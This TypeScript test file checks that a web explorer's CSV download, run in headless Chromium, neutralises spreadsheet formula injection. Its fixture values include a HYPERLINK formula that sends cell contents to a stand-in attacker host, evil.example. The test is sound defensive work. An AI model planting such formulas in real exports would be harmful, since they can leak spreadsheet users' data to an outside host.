/**
 * The explorer's "Download CSV" in a real browser (Debian's headless Chromium): product codes that a
 * spreadsheet would run as formulas arrive as text in the download, while the API's own CSV keeps
 * them exactly as stored.
 */
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ApiInBrowser, openApiInBrowser } from "./support/browser_api.ts";
import { needs } from "./support/services.ts";

// (A product starting with a tab cannot be typed into the page, which trims it: csv_formulas.test.ts has it.)
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(1,2)"];
const QUERY = "startTimestamp=2016-02-01%2010:00:00&endTimestamp=2016-02-01%2012:00:00&aggregation=60";

let opened: ApiInBrowser | undefined;

// Runs only when the block below does (vitest skips a file's hooks when all its tests are skipped).
beforeAll(async () => {
  opened = await openApiInBrowser([
    ...FORMULAS.map((product) => ({ at: "2016-02-01 10:05", platform: "iOS" as const, product, count: 2 })),
    { at: "2016-02-01 11:00", platform: "Android", product: "PLAIN-1", count: 1 },
  ]);
});
afterAll(async () => {
  await opened?.close();
});

describe("the explorer's CSV download in Chromium", needs("chromium"), () => {
  it("neutralises cells that start a formula; the API's CSV stays exact", async () => {
    if (!opened) throw new Error("not started");
    const { server, browser } = opened;
    const page = await browser.context.newPage();
    for (const product of FORMULAS) {
      const query = `${QUERY}&product=${encodeURIComponent(product)}`;
      const api = await (await fetch(`${server.url}/ctr?${query}`, { headers: { Accept: "text/csv" } })).text();
      const cell = product.replaceAll('"', '""');
      expect(api).toContain(`"${cell}"`);

      await page.goto(`${server.url}/explore?${query}`);
      await page.waitForSelector("#results:not([hidden]) #rows tbody tr, #error:not([hidden])");
      expect(await page.isHidden("#error"), `${product}: ${await page.textContent("#error")}`).toBe(true);
      const [download] = await Promise.all([page.waitForEvent("download"), page.click("#download-csv")]);
      const csv = readFileSync(await download.path(), "utf8");
      // The API's text with a `'` opening the formula cell, and nothing else changed.
      expect(csv, product).toBe(api.replace(`"${cell}"`, `"'${cell}"`));
    }
    await page.close();
  });
});
